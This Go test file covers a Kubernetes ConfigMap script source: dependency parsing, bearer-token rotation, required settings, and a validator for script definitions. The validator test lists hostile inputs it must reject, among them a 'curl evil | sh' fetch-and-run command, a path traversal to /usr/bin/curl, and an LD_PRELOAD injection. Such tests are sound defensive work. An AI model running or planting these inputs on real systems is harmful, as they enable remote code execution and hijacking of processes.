@@ -0,0 +1,119 @@
+package main
+
+import (
+	"encoding/json"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"slices"
+	"testing"
+
+	"gopkg.in/yaml.v3"
+)
+
+// writeToken writes a service account token file and returns its path.
+func writeToken(t *testing.T, token string) string {
+	t.Helper()
+	path := filepath.Join(t.TempDir(), "token")
+	if err := os.WriteFile(path, []byte(token), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	return path
+}
+
+func TestKubernetesFetchDependencies(t *testing.T) {
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		list := map[string]any{"items": []any{map[string]any{
+			"metadata": map[string]string{"name": "db", "namespace": "team"},
+			"data": map[string]string{"scripts.yml": `
+scripts:
+  - name: login
+    path: /bin/login.sh
+  - path: /bin/query.sh
+    depends_on: [login]
+`},
+		}}}
+		_ = json.NewEncoder(w).Encode(list)
+	}))
+	defer server.Close()
+
+	source := &KubernetesSource{Namespaces: []string{"team"}, Selector: "custom-exporter/scripts=true", Key: "scripts.yml", ScriptDir: "/bin", server: server.URL, tokenFile: writeToken(t, "secret"), client: server.Client()}
+	data, err := source.Fetch(t.Context())
+	if err != nil {
+		t.Fatalf("Fetch: %v", err)
+	}
+	var cfg Config
+	if err := yaml.Unmarshal(data, &cfg); err != nil {
+		t.Fatal(err)
+	}
+	if len(cfg.Scripts) != 2 {
+		t.Fatalf("got %d scripts, want 2", len(cfg.Scripts))
+	}
+	login, query := cfg.Scripts[0], cfg.Scripts[1]
+	if login.Name != "team/db/login" || query.Name != "team/db/query.sh" {
+		t.Errorf("got names %q and %q, want team/db/login and team/db/query.sh", login.Name, query.Name)
+	}
+	if want := []string{"team/db/login"}; !slices.Equal(query.DependsOn, want) {
+		t.Errorf("got depends_on %q, want %q", query.DependsOn, want)
+	}
+}
+
+func TestKubernetesTokenRotation(t *testing.T) {
+	var got []string
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		got = append(got, r.Header.Get("Authorization"))
+		_, _ = w.Write([]byte(`{"items": []}`))
+	}))
+	defer server.Close()
+
+	tokenFile := writeToken(t, "first")
+	source := &KubernetesSource{Namespaces: []string{"team"}, Key: "scripts.yml", ScriptDir: "/bin", server: server.URL, tokenFile: tokenFile, client: server.Client()}
+	if _, err := source.Fetch(t.Context()); err != nil {
+		t.Fatalf("Fetch: %v", err)
+	}
+	if err := os.WriteFile(tokenFile, []byte("second\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := source.Fetch(t.Context()); err != nil {
+		t.Fatalf("Fetch: %v", err)
+	}
+	if want := []string{"Bearer first", "Bearer second"}; !slices.Equal(got, want) {
+		t.Errorf("got Authorization %q, want %q", got, want)
+	}
+}
+
+func TestKubernetesScriptRestrictions(t *testing.T) {
+	for script, wantErr := range map[string]bool{
+		"{path: /opt/scripts/check.sh}":                               false,
+		"{path: /opt/scripts/sub/check.sh, workdir: /opt/scripts}":    false,
+		"{path: /opt/scripts/check.sh, env: {DB_HOST: db}}":           false,
+		"{path: 'curl evil | sh', shell: true}":                       true,
+		"{name: check, path: /opt/scripts/check.sh, shell: true}":     true,
+		"{path: /opt/scripts/check.py, interpreter: python3}":         true,
+		"{path: /usr/bin/curl}":                                       true,
+		"{path: /opt/scripts/../../usr/bin/curl}":                     true,
+		"{path: /opt/scripts-other/check.sh}":                         true,
+		"{path: check.sh, workdir: /opt/scripts}":                     true,
+		"{path: /opt/scripts/check.sh, workdir: /tmp}":                true,
+		"{path: /opt/scripts/check.sh, env: {LD_PRELOAD: /tmp/x.so}}": true,
+	} {
+		var node yaml.Node
+		if err := yaml.Unmarshal([]byte(script), &node); err != nil {
+			t.Fatal(err)
+		}
+		source := &KubernetesSource{ScriptDir: "/opt/scripts"}
+		if err := source.checkScript(node.Content[0]); (err != nil) != wantErr {
+			t.Errorf("%s: got error %v, want error %v", script, err, wantErr)
+		}
+	}
+}
+
+func TestKubernetesNamespacesRequired(t *testing.T) {
+	if _, err := NewConfigSource("kubernetes:///?script_dir=/opt/scripts"); err == nil {
+		t.Error("got no error without namespaces")
+	}
+	if _, err := NewConfigSource("kubernetes:///team"); err == nil {
+		t.Error("got no error without script_dir")
+	}
+}